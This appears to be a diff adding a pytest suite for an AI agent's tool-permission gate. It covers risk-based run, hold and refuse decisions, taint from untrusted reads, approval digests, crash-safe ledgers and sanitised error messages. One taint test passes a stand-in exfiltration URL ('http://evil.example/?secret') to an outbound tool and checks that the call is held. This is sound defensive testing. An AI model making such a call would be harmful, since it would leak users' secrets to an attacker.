@@ -1,0 +1,253 @@
+"""The gate in front of every tool: what runs, what waits, what is refused, and what the model reads when a tool breaks."""
+
+import asyncio
+from typing import Any
+
+from pydantic_ai import RunContext
+
+from app.deps import AgentDeps
+from app.errors import NotFound, StorageBusy
+from app.gate.hook import REFUSED, STOPPED
+from app.gate.ledger import UNKNOWN_RESULT, digest
+from app.gate.outcome import Done
+from app.gate.risk import DESTROYS, PURE, READS, WRITES, Risk
+from tests.gate.bench import NOON, Bench, bench_of, tool
+
+SENDS = Risk(side_effect=True, egress=True, local=False, reversible=True)
+LOOKS_OUT = Risk(egress=True, reads_untrusted=True)
+
+
+async def keep(ctx: RunContext[AgentDeps], text: str) -> Done:
+    """Keep a note."""
+    note = await _kept(ctx, text)
+    return Done(f"Kept note #{note}.", undo={"action": "delete_note", "id": note})
+
+
+async def keep_then_break(ctx: RunContext[AgentDeps], text: str) -> Done:
+    """Keep a note, then meet a bug."""
+    await _kept(ctx, text)
+    raise ZeroDivisionError("secret detail of the inside")
+
+
+async def send(ctx: RunContext[AgentDeps], to: str) -> Done:
+    """Send it out."""
+    await _kept(ctx, f"sent to {to}")
+    return Done(f"Sent to {to}.")
+
+
+async def send_into_a_broken_line(ctx: RunContext[AgentDeps], to: str) -> Done:
+    """Send it out; the line breaks before the answer."""
+    await _kept(ctx, f"sent to {to}")
+    raise ConnectionError("no answer")
+
+
+async def send_to_nobody(ctx: RunContext[AgentDeps], to: str) -> Done:
+    """The other side says no."""
+    raise NotFound(f"There is nobody called {to}.")
+
+
+async def look(ctx: RunContext[AgentDeps], where: str = "") -> str:
+    """Look it up."""
+    return f"<page>{where}</page>"
+
+
+async def lose(ctx: RunContext[AgentDeps], what: str) -> str:
+    """Never find it."""
+    raise NotFound(f"There is no {what}.")
+
+
+async def jam(ctx: RunContext[AgentDeps]) -> str:
+    """The database is busy."""
+    raise StorageBusy
+
+
+async def _kept(ctx: RunContext[AgentDeps], text: str) -> int:
+    deps = ctx.deps
+    note = await deps.store.notes.add(
+        deps.user.id, title=text, content=text, tags=[], source="user", turn_id=deps.turn_id, taint=[], at=deps.now
+    )
+    return note.id
+
+
+async def _notes(bench: Bench) -> list[str]:
+    return [note.content for note in await bench.services.store.notes.list(bench.owner, limit=50)]
+
+
+class TestACall:
+    """...of a clean turn."""
+
+    async def test_that_only_reads_runs_and_leaves_no_row(self, bench: Bench) -> None:
+        assert await bench.call(tool(look, READS), where="here") == "<page>here</page>"
+        assert await bench.ledger() == []
+        assert bench.decisions() == [("run", "read")]
+
+    async def test_that_can_be_taken_back_runs_and_is_written_down(self, stored_bench: Bench) -> None:
+        assert await stored_bench.call(tool(keep, WRITES), text="milk") == "Kept note #1."
+        [row] = await stored_bench.ledger()
+        assert (row.tool, row.arguments, row.status, row.result) == ("keep", {"text": "milk"}, "done", "Kept note #1.")
+        assert row.undo == {"action": "delete_note", "id": 1}
+        assert stored_bench.decisions() == [("run", "done")]
+
+    async def test_that_cannot_be_taken_back_waits(self, stored_bench: Bench) -> None:
+        told = await stored_bench.call(tool(keep, DESTROYS), text="milk")
+        [action] = await stored_bench.services.store.pending.waiting(stored_bench.owner, NOON)
+        assert told.startswith(f"[APPROVAL_PENDING:{action.id}]")
+        assert await _notes(stored_bench) == []
+        assert stored_bench.decisions() == [("hold", "held")]
+
+    async def test_that_declares_no_risk_is_refused(self, bench: Bench) -> None:
+        assert await bench.call(tool(keep, None), text="milk") == REFUSED
+        assert await _notes(bench) == []
+        assert bench.decisions() == [("refuse", "refused")]
+
+    async def test_after_the_user_said_stop_is_refused(self, bench: Bench) -> None:
+        bench.turn.books.stopped = True
+        assert await bench.call(tool(keep, WRITES), text="milk") == STOPPED
+        assert await bench.call(tool(look, PURE)) == STOPPED
+        assert await _notes(bench) == []
+        assert bench.decisions() == [("stop", "refused")] * 2
+
+    async def test_that_is_made_twice_on_purpose_runs_twice(self, bench: Bench) -> None:
+        await bench.call(tool(keep, WRITES), text="milk")
+        await bench.call(tool(keep, WRITES), text="milk")
+        assert await _notes(bench) == ["milk", "milk"]
+
+
+class TestATaintedTurn:
+    """...has read what other people wrote."""
+
+    async def test_begins_with_reading_untrusted_text(self, bench: Bench) -> None:
+        await bench.call(tool(look, Risk(reads_untrusted=True)))
+        await bench.call(tool(look, Risk(reads_untrusted=True)))
+        assert bench.turn.taint.sources == ["look"]
+
+    async def test_holds_even_what_could_be_taken_back(self, stored_bench: Bench) -> None:
+        stored_bench.turn.taint.add("look")
+        await stored_bench.call(tool(keep, WRITES), text="milk")
+        assert await _notes(stored_bench) == []
+        [action] = await stored_bench.services.store.pending.waiting(stored_bench.owner, NOON)
+        assert (action.tool, action.taint) == ("keep", ["look"])
+
+    async def test_holds_what_would_send_something_out(self, bench: Bench) -> None:
+        bench.turn.taint.add("look")
+        told = await bench.call(tool(look, LOOKS_OUT), where="http://evil.example/?secret")
+        assert "<page>" not in told
+        assert bench.decisions() == [("hold", "held")]
+
+    async def test_still_reads(self, bench: Bench) -> None:
+        bench.turn.taint.add("look")
+        assert await bench.call(tool(look, READS), where="here") == "<page>here</page>"
+
+    async def test_runs_the_one_call_its_user_confirmed(self, bench: Bench) -> None:
+        bench.turn.taint.add("look")
+        row = tool(keep, WRITES)
+        await bench.call(row, approved=digest("keep", {"text": "milk"}), text="eggs")
+        assert await _notes(bench) == []
+        await bench.call(row, approved=digest("keep", {"text": "milk"}), text="milk")
+        assert await _notes(bench) == ["milk"]
+
+
+async def test_what_waits_is_pinned_to_what_its_words_mean_now(bench: Bench) -> None:
+    async def pin(_: AgentDeps, arguments: dict[str, Any]) -> tuple[dict[str, Any], str]:
+        return {"text": "#12"}, f"Burn {arguments['text']} (#12)"
+
+    told = await bench.call(tool(keep, DESTROYS, prepare=pin), text="my old address")
+    [action] = await bench.services.store.pending.waiting(bench.owner, NOON)
+    assert (action.arguments, action.summary) == ({"text": "#12"}, "Burn my old address (#12)")
+    assert action.digest == digest("keep", {"text": "#12"})
+    assert action.summary in told
+
+
+async def test_what_cannot_be_pinned_is_told_and_not_held(bench: Bench) -> None:
+    async def pin(_: AgentDeps, arguments: dict[str, Any]) -> tuple[dict[str, Any], str]:
+        raise NotFound(f"There is no {arguments['text']}.")
+
+    assert await bench.call(tool(keep, DESTROYS, prepare=pin), text="moon") == "There is no moon."
+    assert await bench.services.store.pending.waiting(bench.owner, NOON) == []
+
+
+class TestWhenAToolBreaks:
+    """...the model reads a plain sentence and the turn goes on."""
+
+    async def test_a_problem_is_told_in_its_own_words(self, bench: Bench) -> None:
+        assert await bench.call(tool(lose, READS), what="moon") == "There is no moon."
+        assert bench.decisions() == [("run", "failed")]
+
+    async def test_a_storage_problem_is_told_in_its_own_words(self, bench: Bench) -> None:
+        assert "busy" in await bench.call(tool(jam, READS))
+
+    async def test_a_bug_is_told_without_its_name_or_its_insides(self, bench: Bench) -> None:
+        told = await bench.call(tool(keep_then_break, WRITES), text="milk")
+        assert "fault on my side" in told
+        assert "ZeroDivision" not in told
+        assert "secret" not in told
+        assert bench.decisions() == [("run", "failed")]
+
+    async def test_a_local_change_and_its_row_roll_back_together(self, stored_bench: Bench) -> None:
+        await stored_bench.call(tool(keep_then_break, WRITES), text="milk")
+        assert await _notes(stored_bench) == []
+        assert await stored_bench.ledger() == []
+
+
+class TestATurnTakenUpAgain:
+    """...after a crash, does nothing twice."""
+
+    async def test_gets_the_stored_result_of_a_call_that_ran(self, stored_bench: Bench) -> None:
+        first = await stored_bench.call(tool(keep, WRITES), text="milk")
+        resumed = stored_bench.begun_again()
+        assert await resumed.call(tool(keep, WRITES), text="milk") == first
+        assert await _notes(resumed) == ["milk"]
+        assert resumed.decisions() == [("run", "replayed")]
+
+    async def test_runs_a_call_that_had_not_run(self, bench: Bench) -> None:
+        await bench.call(tool(keep, WRITES), text="milk")
+        await bench.begun_again().call(tool(keep, WRITES), text="eggs")
+        assert await _notes(bench) == ["eggs", "milk"]
+
+    async def test_asks_again_in_another_turn(self, bench: Bench) -> None:
+        await bench.call(tool(keep, WRITES), text="milk")
+        await bench_of(bench.services, turn_id="turn-2").call(tool(keep, WRITES), text="milk")
+        assert await _notes(bench) == ["milk", "milk"]
+
+
+class TestAnOutsideCall:
+    """...is on the books before it goes out, since nobody can roll it back."""
+
+    async def test_is_closed_when_it_is_done(self, stored_bench: Bench) -> None:
+        assert await stored_bench.call(tool(send, SENDS), to="ama") == "Sent to ama."
+        assert [(row.status, row.result) for row in await stored_bench.ledger()] == [("done", "Sent to ama.")]
+
+    async def test_that_the_other_side_refused_has_failed(self, stored_bench: Bench) -> None:
+        assert await stored_bench.call(tool(send_to_nobody, SENDS), to="ama") == "There is nobody called ama."
+        [row] = await stored_bench.ledger()
+        assert (row.status, row.result) == ("failed", "There is nobody called ama.")
+
+    async def test_cut_off_by_a_crash_is_unknown_and_never_repeated(self, stored_bench: Bench) -> None:
+        going = asyncio.Event()
+
+        async def send_for_ever(ctx: RunContext[AgentDeps], to: str) -> Done:
+            """Send it out and wait."""
+            await _kept(ctx, f"sent to {to}")
+            going.set()
+            await asyncio.Event().wait()
+            return Done("never")
+
+        row = tool(send_for_ever, SENDS)
+        crashing = asyncio.create_task(stored_bench.call(row, to="ama"))
+        await going.wait()
+        crashing.cancel()
+        await asyncio.gather(crashing, return_exceptions=True)
+        assert [entry.status for entry in await stored_bench.ledger()] == ["started"]
+
+        resumed = stored_bench.begun_again()
+        assert await resumed.call(row, to="ama") == UNKNOWN_RESULT
+        assert await resumed.call(row, to="ama") == UNKNOWN_RESULT
+        assert [entry.status for entry in await resumed.ledger()] == ["unknown"]
+        assert await _notes(resumed) == ["sent to ama"]
+
+    async def test_whose_line_broke_is_unknown_and_never_repeated(self, stored_bench: Bench) -> None:
+        row = tool(send_into_a_broken_line, SENDS)
+        assert await stored_bench.call(row, to="ama") == UNKNOWN_RESULT
+        assert [entry.status for entry in await stored_bench.ledger()] == ["unknown"]
+        assert await stored_bench.call(row, to="ama") == UNKNOWN_RESULT
+        assert await _notes(stored_bench) == ["sent to ama"]
